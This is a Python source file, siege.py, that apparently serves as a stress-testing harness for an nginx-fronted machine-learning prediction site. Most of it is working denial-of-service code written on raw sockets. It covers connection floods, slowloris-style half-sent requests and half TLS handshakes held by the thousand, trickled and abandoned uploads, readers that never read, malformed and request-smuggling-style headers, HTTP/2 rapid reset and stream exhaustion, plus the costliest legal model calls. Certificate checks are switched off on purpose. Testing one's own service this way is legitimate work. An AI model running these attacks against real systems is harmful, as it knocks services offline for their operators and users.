"""What one client can do to the site from one address; runs as a process of its own, as an outsider (siege.py).

The first line of its input is what it needs to know, as JSON. It begins at the next line, ends by itself after the
seconds it was given, and prints what it sent and what came back as one line of JSON.

Written on sockets instead of an HTTP library, because most of it is what no library would send. It takes nobody's word
for a certificate: it is not here to trust.
"""

from __future__ import annotations

import asyncio
import base64
import errno
import itertools
import json
import re
import resource
import select
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any, Self

from hpack import Encoder, NeverIndexedHeaderTuple

ROWS = 1000
BODY = 61440
"""The most rows and bytes that one request may have, as the site is shipped."""
FEATURES = ("petal_length", "petal_width")
MOST = 10_000
"""Connections that are held open at the same time."""
FLOODING = 240
"""Connections of a flood: less than the site lets one address have."""
OUTSTANDING = 2000
"""Attempts to connect, and requests whose answer is waited for, at the same time."""
PATIENCE = 12.0
"""Seconds until an answer is given up."""
CONNECT = 3.0
"""Seconds until a connection is given up."""

STATUS = re.compile(rb"HTTP/1\.[01] (\d{3}) ")
LONGEST_STATUS = 13

# HTTP/2: types and flags of frames.
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0, 1, 3, 4, 7
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INITIAL_WINDOW_SIZE = 4
CANCEL = (8).to_bytes(4, "big")
STREAMS = 8
"""Streams that nginx lets a client have open."""
BATCH = 14
"""Streams that are begun and reset at once: nginx gives up a connection that begins twice as many as it may have."""

PATH = "/" + "x" * 7900
"""The longest path that nginx reads: with its method it fits into a buffer of 8k."""


@dataclass
class Sent:
    """What was sent, and what came back."""

    requests: int = 0
    """Begun, whether or not they were ended."""
    connections: int = 0
    """That the site accepted."""
    held: int = 0
    """Of these, how many were open at the same time, at most."""
    bytes: int = 0
    """Of requests, before TLS."""
    answers: Counter[str] = field(default_factory=Counter)
    """By status; or what came in place of an answer."""


class Line:
    """A TCP or TLS connection. Small, since there are to be ten thousand of them; one task at a time may use it."""

    def __init__(self, peer: socket.socket) -> None:
        self.peer = peer
        self.buffer = b""

    async def ready(self, *, to_write: bool) -> None:
        """Wait until the socket can be read or written."""
        loop, fd = asyncio.get_running_loop(), self.peer.fileno()
        future: asyncio.Future[None] = loop.create_future()
        watch, forget = (loop.add_writer, loop.remove_writer) if to_write else (loop.add_reader, loop.remove_reader)
        watch(fd, lambda: None if future.done() else future.set_result(None))
        try:
            await future
        finally:
            forget(fd)

    async def retry(self, call: Callable[..., Any], *arguments: Any, to_write: bool = False) -> Any:
        """Call something until it does not have to wait any more."""
        while True:
            try:
                return call(*arguments)
            except ssl.SSLWantReadError:
                await self.ready(to_write=False)
            except ssl.SSLWantWriteError:
                await self.ready(to_write=True)
            except BlockingIOError:
                await self.ready(to_write=to_write)

    async def shake_hands(self, context: ssl.SSLContext, name: str) -> None:
        """Begin TLS."""
        peer = context.wrap_socket(self.peer, server_hostname=name, do_handshake_on_connect=False)
        self.peer = peer
        await self.retry(peer.do_handshake)

    async def send(self, data: bytes) -> None:
        """Send all of it."""
        left = memoryview(data)
        while left:
            left = left[await self.retry(self.peer.send, left, to_write=True) :]

    async def read(self) -> bytes:
        """Return what comes next; nothing at the end."""
        return bytes(await self.retry(self.peer.recv, 65536))

    async def answer(self, *, head: bool) -> tuple[str, bool]:
        """Read one answer, without a body if it is one to HEAD; return its status and whether the connection stays."""
        while b"\r\n\r\n" not in self.buffer:
            data = await self.read()
            if not data:
                raise ConnectionResetError("closed")
            self.buffer += data
        top, _, self.buffer = self.buffer.partition(b"\r\n\r\n")
        fields = dict(re.findall(rb"\r\n([^:\r]+): *([^\r]*)", top.lower()))
        left = 0 if head else int(fields.get(b"content-length", 0))
        while len(self.buffer) < left:
            data = await self.read()
            if not data:
                raise ConnectionResetError("closed")
            self.buffer += data
        self.buffer = self.buffer[left:]
        return top[9:12].decode(), fields.get(b"connection") != b"close" and b"content-length" in fields

    def close(self) -> None:
        """Close the connection."""
        self.peer.close()


class Attacker:
    """One client that uses all that it is allowed, and tries more."""

    def __init__(self, address: str, name: str, authorization: str | None, model: str, seconds: float) -> None:
        self.address, self.name, self.seconds = address, name, seconds
        self.authorization, self.model = authorization, model
        self.sent = Sent()
        self.ports = {80: 80, 443: 443}
        self.open_now = 0
        self.until = float("inf")
        self.tasks: set[asyncio.Task[None]] = set()

    # What it says.

    def request(self, method: str, path: str, body: bytes = b"", *lines: str, length: int | None = None) -> bytes:
        """Return a request of HTTP/1.1, with the password if there is one."""
        head = [f"{method} {path} HTTP/1.1", f"Host: {self.name}", *lines]
        if self.authorization and not any(line.startswith("Authorization") for line in lines):
            head.append(f"Authorization: {self.authorization}")
        if body or length or method == "POST":
            head += ["Content-Type: application/json", f"Content-Length: {len(body) if length is None else length}"]
        return "\r\n".join([*head, "", ""]).encode() + body

    def most_rows(self) -> bytes:
        """Return the slowest call that is legal: as many rows as a request may have."""
        return self.request("POST", "/predict", rows(ROWS))

    def largest(self) -> list[bytes]:
        """Return the largest batches that are legal: in rows and bytes, as a list and as a tensor."""
        tensor = {"name": "input", "shape": [ROWS, len(FEATURES)], "datatype": "FP64"}
        head, tail = json.dumps({"inputs": [tensor | {"data": []}]}).split("[]")
        room = (BODY - len(head) - len(tail) - 2) // (ROWS * len(FEATURES)) - 1
        numbers = ",".join(itertools.islice(decimals(room), ROWS * len(FEATURES)))
        infer = f"/v2/models/{self.model}/infer"
        return [
            self.request("POST", "/predict", padded(rows(ROWS), BODY)),
            self.request("POST", infer, padded(f"{head}[{numbers}]{tail}".encode(), BODY)),
        ]

    # How it goes about it.

    @property
    def going(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.until

    async def run(self, kind: Kind) -> Sent:
        """Attack for as long as was said, and hang everything up."""
        _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        self.until = time.monotonic() + self.seconds
        with suppress(TimeoutError):
            async with asyncio.timeout(self.seconds):
                await kind.how(self)
        for task in self.tasks:
            task.cancel()
        await asyncio.gather(*self.tasks, return_exceptions=True)
        return self.sent

    def spawn(self, what: Awaitable[None]) -> None:
        """Do something meanwhile."""
        task = asyncio.ensure_future(what)
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    async def times(self, rate: float, most: int) -> AsyncIterator[None]:
        """Yield so often a second; what is late is made up for, but never with more than so many tasks."""
        due = time.monotonic()
        while self.going:
            await asyncio.sleep(max(0.0, due - time.monotonic()))
            due += 1 / rate
            if len(self.tasks) < most:
                yield
            else:
                due = max(due, time.monotonic())

    async def open(self, port: int = 443, *, tls: bool = True, alpn: str = "http/1.1", window: int = 0) -> Line | None:
        """Connect, with a receive window of so many bytes if it is not 0; count it."""
        peer = socket.socket()
        peer.setblocking(False)
        line = Line(peer)
        try:
            if window:
                peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, window)
            async with asyncio.timeout(CONNECT):
                await asyncio.get_running_loop().sock_connect(peer, (self.address, self.ports[port]))
                if tls:
                    await line.shake_hands(CONTEXTS[alpn], self.name)
        except BaseException as error:
            line.close()
            if not isinstance(error, OSError | TimeoutError):
                raise
            self.sent.answers[f"no connection: {reason(error)}"] += 1
            await asyncio.sleep(0.02)
            return None
        self.sent.connections += 1
        self.open_now += 1
        self.sent.held = max(self.sent.held, self.open_now)
        return line

    def close(self, line: Line) -> None:
        """Close the connection; count it."""
        self.open_now -= 1
        line.close()

    async def say(self, line: Line, data: bytes, requests: int = 1) -> None:
        """Send requests; count them."""
        self.sent.requests += requests
        self.sent.bytes += len(data)
        await line.send(data)

    async def each(self, count: int, how: Callable[[], Awaitable[None]]) -> None:
        """Do something over so many connections at the same time."""
        await asyncio.gather(*(how() for _ in range(count)))

    async def flood(self, connections: int, batch: bytes, count: int, *, port: int = 443) -> None:
        """Send a batch of pipelined requests, read the answers, and again, over each connection."""

        async def go() -> None:
            while self.going:
                if (line := await self.open(port, tls=port == 443)) is None:
                    continue
                try:
                    while True:
                        await self.say(line, batch, count)
                        await self.count(line, count)
                except OSError as error:
                    self.sent.answers[reason(error)] += 1
                finally:
                    self.close(line)

        await self.each(connections, go)

    async def count(self, line: Line, expected: int) -> None:
        """Count so many answers by their status; raise where the connection ends."""
        tail = b""
        while expected > 0:
            if not (data := await self.read_some(line)):
                raise ConnectionResetError("closed")
            found = STATUS.findall(tail + data)
            self.sent.answers.update(status.decode() for status in found)
            expected -= len(found)
            # A status that has been counted is not to be seen again, one that was cut in two is.
            tail = (tail + data)[-LONGEST_STATUS + 1 :]
            tail = STATUS.sub(b"", tail)

    async def read_some(self, line: Line) -> bytes:
        """Return what comes next, within a time."""
        async with asyncio.timeout(PATIENCE):
            return await line.read()

    async def shots(self, rate: float, requests: Iterable[bytes], *, hang_up: bool = False) -> None:
        """Send requests at a rate, each over a connection that has nothing else to do, whatever becomes of the others.

        To hang up means not to wait for the answer.
        """
        idle: list[Line] = []
        supply = itertools.cycle(requests)
        async for _ in self.times(rate, OUTSTANDING):
            self.spawn(self.shot(next(supply), idle, hang_up))

    async def shot(self, request: bytes, idle: list[Line], hang_up: bool) -> None:
        """Send one of them."""
        line = idle.pop() if idle else await self.open()
        if line is None:
            return
        stays = False
        try:
            await self.say(line, request)
            if hang_up:
                self.sent.answers["not waited for"] += 1
                return
            async with asyncio.timeout(PATIENCE):
                status, stays = await line.answer(head=request.startswith(b"HEAD"))
            self.sent.answers[status] += 1
        except asyncio.CancelledError:
            self.sent.answers["no answer until the end"] += 1
            raise
        except OSError as error:
            self.sent.answers[reason(error)] += 1
        finally:
            idle.append(line) if stays else self.close(line)

    async def hold(self, count: int, rate: float, opening: bytes, *, trickle: bytes = b"") -> None:
        """Keep connections open on which requests are begun and never ended; a closed one is replaced.

        Where there is something to trickle, a byte of it follows each second.
        """
        async for _ in self.times(rate, count):
            self.spawn(self.held(opening, trickle))

    async def held(self, opening: bytes, trickle: bytes) -> None:
        """Hold one of them open."""
        if (line := await self.open()) is None:
            return
        try:
            await self.say(line, opening)
            for byte in itertools.cycle(trickle):
                with suppress(TimeoutError):
                    async with asyncio.timeout(1):
                        await self.ended(line)
                        return
                self.sent.bytes += 1
                await line.send(bytes([byte]))
            await self.ended(line)
        except asyncio.CancelledError:
            self.sent.answers["held to the end"] += 1
            raise
        except OSError as error:
            self.sent.answers[reason(error)] += 1
        finally:
            self.close(line)

    async def ended(self, line: Line) -> None:
        """Wait for an answer or the end of a connection; count it."""
        while data := await line.read():
            if found := STATUS.search(data):
                self.sent.answers[found[1].decode()] += 1
                return
        self.sent.answers["closed"] += 1

    async def crowd(self, count: int, rate: float, opening: bytes, port: int) -> None:
        """Keep connections open, as `hold` does, but without TLS and with nothing to trickle: thousands a second.

        A task for each of them would take longer than the site takes to refuse it.
        """
        with Crowd(self.sent, (self.address, self.ports[port]), opening) as crowd:
            began, opened = time.monotonic(), 0
            while self.going:
                now = time.monotonic()
                new = max(0, min(int(rate * (now - began)) - opened, count - len(crowd.peers)))
                opened += new
                crowd.open(new, now)
                crowd.look(now)
                if opened < rate * (now - began):
                    # What could not be opened, because all are, is not made up for.
                    opened = int(rate * (now - began))
                await asyncio.sleep(0.002)

    async def deaf(self, connections: int, request: bytes, count: int) -> None:
        """Send requests and read no answer, with the smallest window that there is."""

        async def go() -> None:
            while self.going:
                if (line := await self.open(window=1)) is None:
                    continue
                try:
                    while True:
                        await self.say(line, request * count, count)
                        await asyncio.sleep(0.1)
                except asyncio.CancelledError:
                    self.sent.answers["not read"] += 1
                    raise
                except OSError as error:
                    self.sent.answers[reason(error)] += 1
                finally:
                    self.close(line)

        await self.each(connections, go)

    async def handshakes(self, connections: int) -> None:
        """Begin TLS and go."""

        async def go() -> None:
            while self.going:
                if (line := await self.open()) is not None:
                    self.sent.answers["handshake"] += 1
                    self.close(line)

        await self.each(connections, go)

    async def http2(
        self, connections: int, frames: Callable[[Iterator[int]], tuple[bytes, int]], window: int, pause: float
    ) -> None:
        """Send frames for the next streams of each connection, read what is there, pause, and again."""
        settings = frame(SETTINGS, 0, 0, INITIAL_WINDOW_SIZE.to_bytes(2, "big") + window.to_bytes(4, "big"))

        async def go() -> None:
            while self.going:
                if (line := await self.open(alpn="h2")) is None:
                    continue
                try:
                    await line.send(PREFACE + settings)
                    streams = itertools.count(1, 2)
                    while True:
                        data, count = frames(streams)
                        await self.say(line, data, count)
                        with suppress(TimeoutError):
                            async with asyncio.timeout(pause):
                                while True:
                                    self.take(line, await line.read())
                except OSError as error:
                    self.sent.answers[reason(error)] += 1
                finally:
                    self.close(line)

        await self.each(connections, go)

    def take(self, line: Line, data: bytes) -> None:
        """Count the answers among the frames that came."""
        if not data:
            raise ConnectionResetError("closed")
        line.buffer += data
        found, line.buffer = statuses(line.buffer)
        self.sent.answers.update(found)

    def stream(self, method: str, path: str, body: bytes = b"") -> bytes:
        """Return the block of a request's headers, the same for every stream and connection."""
        fields = [(":method", method), (":scheme", "https"), (":authority", self.name), (":path", path)]
        if self.authorization:
            fields.append(("authorization", self.authorization))
        if body:
            fields += [("content-type", "application/json"), ("content-length", str(len(body)))]
        # Of a header that is never to be indexed no table has to know.
        return Encoder().encode([NeverIndexedHeaderTuple(*each) for each in fields])


class Crowd:
    """Many connections on which nothing more is said than the opening."""

    def __init__(self, sent: Sent, address: tuple[str, int], opening: bytes) -> None:
        self.sent, self.address, self.opening = sent, address, opening
        self.peers: dict[int, socket.socket] = {}
        self.connecting: dict[int, float] = {}
        """Since when; the oldest comes first."""

    def __enter__(self) -> Self:
        """Begin without any."""
        self.poll = select.epoll()
        return self

    def __exit__(self, *_: object) -> None:
        """Close all of them."""
        self.sent.answers["held to the end"] += len(self.peers) - len(self.connecting)
        self.sent.answers["no connection until the end"] += len(self.connecting)
        self.sent.answers = +self.sent.answers
        for peer in self.peers.values():
            peer.close()
        self.poll.close()

    def open(self, count: int, now: float) -> None:
        """Begin to connect so many."""
        for _ in range(count):
            peer = socket.socket()
            peer.setblocking(False)
            peer.connect_ex(self.address)
            self.peers[peer.fileno()] = peer
            self.connecting[peer.fileno()] = now
            self.poll.register(peer, select.EPOLLOUT)

    def look(self, now: float) -> None:
        """See what has become of them: connected, answered, closed, or neither for too long."""
        for fd, _ in self.poll.poll(0, OUTSTANDING):
            if fd in self.connecting:
                self.connected(fd)
            else:
                self.answered(fd)
        while self.connecting and now - next(iter(self.connecting.values())) > CONNECT:
            self.drop(next(iter(self.connecting)), "no connection: timeout")

    def connected(self, fd: int) -> None:
        """Send the opening, or record that there is no connection."""
        if code := self.peers[fd].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
            self.drop(fd, f"no connection: {reason(OSError(code, ''))}")
            return
        del self.connecting[fd]
        self.sent.connections += 1
        self.sent.held = max(self.sent.held, len(self.peers) - len(self.connecting))
        self.poll.modify(fd, select.EPOLLIN)
        try:
            self.sent.bytes += self.peers[fd].send(self.opening)
            self.sent.requests += 1
        except OSError as error:
            self.drop(fd, reason(error))

    def answered(self, fd: int) -> None:
        """Learn what came back."""
        try:
            found = STATUS.search(self.peers[fd].recv(4096))
            self.drop(fd, found[1].decode() if found else "closed")
        except OSError as error:
            self.drop(fd, reason(error))

    def drop(self, fd: int, answer: str) -> None:
        """Close one of them; count why."""
        self.sent.answers[answer] += 1
        self.connecting.pop(fd, None)
        self.poll.unregister(fd)
        self.peers.pop(fd).close()


def rows(count: int) -> bytes:
    """Return a body of so many rows."""
    values = (
        {FEATURES[0]: round(0.5 + n % 70 / 10, 1), FEATURES[1]: round(0.2 + n % 27 / 10, 1)} for n in range(count)
    )
    return json.dumps(list(values), separators=(",", ":")).encode()


def decimals(digits: int) -> Iterator[str]:
    """Yield different numbers from 1 to 2 with so many characters each."""
    return (f"1.{n % 1000:03}".ljust(digits, "1") for n in itertools.count())


def padded(body: bytes, length: int) -> bytes:
    """Return JSON with spaces behind it that make it so long."""
    return body.ljust(length)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return a frame of HTTP/2."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def statuses(data: bytes) -> tuple[list[str], bytes]:
    """Return the statuses in frames of HTTP/2, and what is left of the data."""
    found = []
    while len(data) >= 9 and len(data) >= (end := 9 + int.from_bytes(data[:3], "big")):
        if data[3] == HEADERS:
            found.append(status_of(data[9:end]))
        elif data[3] == GOAWAY:
            found.append("GOAWAY")
        elif data[3] == RST_STREAM:
            found.append("stream reset")
        data = data[end:]
    return found, data


def status_of(block: bytes) -> str:
    """Return the status that a block of headers begins with, as nginx writes it."""
    # The table may be resized first; then an entry of the static table, or an indexed name and three digits.
    block = block.lstrip(bytes(range(0x20, 0x40)))
    known = {0x88: "200", 0x89: "204", 0x8A: "206", 0x8B: "304", 0x8C: "400", 0x8D: "404", 0x8E: "500"}
    if block and block[0] in known:
        return known[block[0]]
    if block[:2] in (b"\x48\x03", b"\x08\x03"):
        return block[2:5].decode(errors="replace")
    return "another status"


def reason(error: BaseException) -> str:
    """Return in a word or two why nothing came."""
    if isinstance(error, ssl.SSLError):
        return "TLS refused"
    if isinstance(error, TimeoutError):
        return "timeout"
    if str(error) == "closed":
        return "closed"
    return {
        errno.ECONNRESET: "reset",
        errno.EPIPE: "closed",
        errno.ECONNREFUSED: "refused",
        errno.ETIMEDOUT: "timeout",
    }.get(getattr(error, "errno", None) or 0, type(error).__name__)


def context(alpn: str) -> ssl.SSLContext:
    """Return a context that believes everything."""
    made = ssl.create_default_context()
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    made.set_alpn_protocols([alpn])
    return made


CONTEXTS = {alpn: context(alpn) for alpn in ("http/1.1", "h2")}

How = Callable[[Attacker], Awaitable[None]]


@dataclass(frozen=True)
class Kind:
    """One way to attack."""

    name: str
    how: How
    expected: tuple[str, ...]
    """One of these at least must come back, or the attack was not what its name says."""
    password: bool = False
    short: bool = False
    """Whether it belongs to the short form too."""
    model: bool = False
    """Whether it gives the model work, so that a slow one is of interest."""


def head(attacker: Attacker) -> Awaitable[None]:
    paths = [
        "/health",
        "/docs",
        "/health",
        "/predict",
        "/health",
        "/v2/health/ready",
        "/health",
        "/v2",
        "/openapi.json",
    ]
    paths += ["/v2/health/live", "/", "/grafana/", "/metrics", "/v2/models/" + attacker.model]
    return attacker.shots(50, [attacker.request("HEAD", path) for path in paths])


def beyond_the_limit(attacker: Attacker) -> Awaitable[None]:
    return attacker.flood(FLOODING, 50 * attacker.request("GET", "/health"), 50)


def long_paths(attacker: Attacker) -> Awaitable[None]:
    return attacker.flood(FLOODING, 20 * attacker.request("GET", PATH), 20)


def redirects(attacker: Attacker) -> Awaitable[None]:
    return attacker.flood(FLOODING, 20 * attacker.request("GET", PATH), 20, port=80)


def failed_logins(attacker: Attacker) -> Awaitable[None]:
    wrong = base64.b64encode(b"iris:wrong").decode()
    request = attacker.request("POST", "/predict", rows(1), f"Authorization: Basic {wrong}")
    return attacker.flood(FLOODING, 20 * request, 20)


def half_sent(attacker: Attacker) -> Awaitable[None]:
    opening = f"GET /predict HTTP/1.1\r\nHost: {attacker.name}\r\n".encode()
    return attacker.crowd(MOST, 5000, opening, 80)


def half_hello(attacker: Attacker) -> Awaitable[None]:
    # The head of a record of TLS, and the first bytes of the ClientHello that it promises.
    return attacker.crowd(MOST, 5000, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 443)


def half_sent_within_tls(attacker: Attacker) -> Awaitable[None]:
    opening = f"GET /predict HTTP/1.1\r\nHost: {attacker.name}\r\n".encode()
    return attacker.hold(MOST, 2000, opening)


def handshakes(attacker: Attacker) -> Awaitable[None]:
    return attacker.handshakes(50)


def upload_path(attacker: Attacker) -> str:
    # Without a password nginx takes bodies only where it asks for none.
    return "/predict" if attacker.authorization else "/health"


def abandoned_uploads(attacker: Attacker) -> Awaitable[None]:
    request = attacker.request("POST", upload_path(attacker), rows(ROWS), length=BODY)
    return attacker.shots(200, [request], hang_up=True)


def trickled_uploads(attacker: Attacker) -> Awaitable[None]:
    opening = attacker.request("POST", upload_path(attacker), length=BODY)
    return attacker.hold(2000, 400, opening, trickle=rows(ROWS))


def slow_readers(attacker: Attacker) -> Awaitable[None]:
    request, count = (attacker.most_rows(), 1) if attacker.authorization else (attacker.request("GET", "/x"), 50)
    return attacker.deaf(200, request, count)


def malformed(attacker: Attacker) -> Awaitable[None]:
    good = f"Host: {attacker.name}\r\n"
    bad = [
        f"GET / HTTP/1.1\r\n{good}{good}\r\n",
        f"GET / HTTP/9.9\r\n{good}\r\n",
        f"G\0T / HTTP/1.1\r\n{good}\r\n",
        f"GET /\x7f\xff HTTP/1.1\r\n{good}Bad Header: x\r\n\r\n",
        f"POST /predict HTTP/1.1\r\n{good}Content-Length: -1\r\n\r\n",
        f"POST /predict HTTP/1.1\r\n{good}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        f"POST /health HTTP/1.1\r\n{good}Transfer-Encoding: chunked\r\n\r\nzz\r\n",
        f"GET /%zz HTTP/1.1\r\n{good}\r\n",
        "GET / HTTP/1.1\r\n\r\n",
        "\r\n" * 2000,
        "GET /\r\n",
    ]
    return attacker.shots(300, [text.encode("latin-1") for text in bad])


def large_headers(attacker: Attacker) -> Awaitable[None]:
    lines = [f"X-{n}: {'x' * 7900}" for n in range(3)]
    allowed = attacker.request("GET", "/health", b"", *lines)
    too_large = attacker.request("GET", "/health", b"", *lines, *lines)
    return attacker.shots(300, [allowed, too_large])


def rapid_reset(attacker: Attacker) -> Awaitable[None]:
    body = rows(1) if attacker.authorization else b""
    block = attacker.stream("POST", "/predict", body) if body else attacker.stream("GET", "/health")

    def frames(streams: Iterator[int]) -> tuple[bytes, int]:
        data = []
        for stream in itertools.islice(streams, BATCH):
            data.append(frame(HEADERS, END_HEADERS | (0 if body else END_STREAM), stream, block))
            data.append(frame(DATA, END_STREAM, stream, body) if body else b"")
            data.append(frame(RST_STREAM, 0, stream, CANCEL))
        return b"".join(data), BATCH

    return attacker.http2(FLOODING, frames, 65535, 0.005)


def many_streams(attacker: Attacker) -> Awaitable[None]:
    block = attacker.stream("GET", "/health")

    def frames(streams: Iterator[int]) -> tuple[bytes, int]:
        opened = [frame(HEADERS, END_HEADERS | END_STREAM, next(streams), block) for _ in range(STREAMS)]
        return b"".join(opened), STREAMS

    # Nobody may send it a byte of a body.
    return attacker.http2(100, frames, 0, 2)


def slowest_call(attacker: Attacker) -> Awaitable[None]:
    # Where the largest request takes longer than an instance gives any request, the slowest are smaller.
    return attacker.shots(30, [attacker.request("POST", "/predict", rows(size)) for size in (ROWS, 700, 600, 500)])


def batches_of_all_sizes(attacker: Attacker) -> Awaitable[None]:
    # Whatever an instance takes for too long, for long and for short: some are just below each border.
    sizes = [ROWS * percent // 100 for percent in (1, 2, 5, 10, 20, 30, 40, 50, 60, 70, 80, 90)]
    return attacker.shots(30, [attacker.request("POST", "/predict", rows(size)) for size in sizes])


def largest_batch(attacker: Attacker) -> Awaitable[None]:
    return attacker.shots(30, attacker.largest())


def not_waited_for(attacker: Attacker) -> Awaitable[None]:
    return attacker.shots(30, [attacker.most_rows()], hang_up=True)


def single_rows(attacker: Attacker) -> Awaitable[None]:
    return attacker.shots(100, [attacker.request("POST", "/predict", rows(1)[1:-1])])


def refused_bodies(attacker: Attacker) -> Awaitable[None]:
    wrong = padded(rows(ROWS - 1).replace(b"[", b"[0,", 1), BODY)
    deep = b"[" * (BODY // 2) + b"]" * (BODY // 2)
    names = json.dumps({f"n{n}": 0 for n in range(5000)}).encode()[:BODY]
    return attacker.shots(30, [attacker.request("POST", "/predict", body) for body in (wrong, deep, names)])


KINDS = {
    kind.name: kind
    for kind in (
        Kind("HEAD, without a password", head, ("200",), short=True),
        Kind("GET beyond the limit", beyond_the_limit, ("200",)),
        Kind("404s with long paths", long_paths, ("404",)),
        Kind("redirects of long paths on port 80", redirects, ("308",)),
        Kind("failed logins", failed_logins, ("401",)),
        Kind("half-sent requests to port 80", half_sent, ("held to the end",), short=True),
        Kind("half-sent TLS handshakes", half_hello, ("held to the end",)),
        Kind("half-sent requests within TLS", half_sent_within_tls, ("held to the end",)),
        Kind("TLS handshakes, then nothing", handshakes, ("handshake",)),
        Kind("abandoned uploads, without a password", abandoned_uploads, ("not waited for",)),
        Kind("trickled uploads, without a password", trickled_uploads, ("held to the end",)),
        Kind("readers that don't read 404s", slow_readers, ("not read",)),
        Kind("malformed requests", malformed, ("400",)),
        Kind("large headers", large_headers, ("200",)),
        Kind("HTTP/2, rapid reset, without a password", rapid_reset, ("503",)),
        Kind("HTTP/2, many streams that take no body", many_streams, ("200",)),
        Kind("HEAD, with a password", head, ("200",), password=True, model=True),
        Kind("single rows beyond the limit", single_rows, ("200",), password=True, model=True),
        Kind(
            "the slowest call of the model", slowest_call, ("200", "503", "413"), password=True, short=True, model=True
        ),
        Kind("the largest batches", largest_batch, ("200", "503", "413"), password=True, model=True),
        Kind("batches of all sizes", batches_of_all_sizes, ("200",), password=True, model=True),
        Kind("the slowest call, not waited for", not_waited_for, ("not waited for",), password=True, model=True),
        Kind("bodies that are refused", refused_bodies, ("422",), password=True),
        Kind("abandoned uploads, with a password", abandoned_uploads, ("not waited for",), password=True),
        Kind("trickled uploads, with a password", trickled_uploads, ("held to the end",), password=True),
        Kind("readers that don't read batches", slow_readers, ("not read",), password=True, model=True),
        Kind("HTTP/2, rapid reset, with a password", rapid_reset, ("503",), password=True, model=True),
    )
}


def main() -> None:
    """Run as a program."""
    given = json.loads(sys.stdin.readline())
    kind = KINDS[given["kind"]]
    login = f"Basic {base64.b64encode(':'.join(given['login']).encode()).decode()}" if kind.password else None
    attacker = Attacker(given["address"], given["name"], login, given["model"], given["seconds"])
    print("ready", flush=True)
    sys.stdin.readline()
    json.dump(vars(asyncio.run(attacker.run(kind))), sys.stdout)


if __name__ == "__main__":
    main()
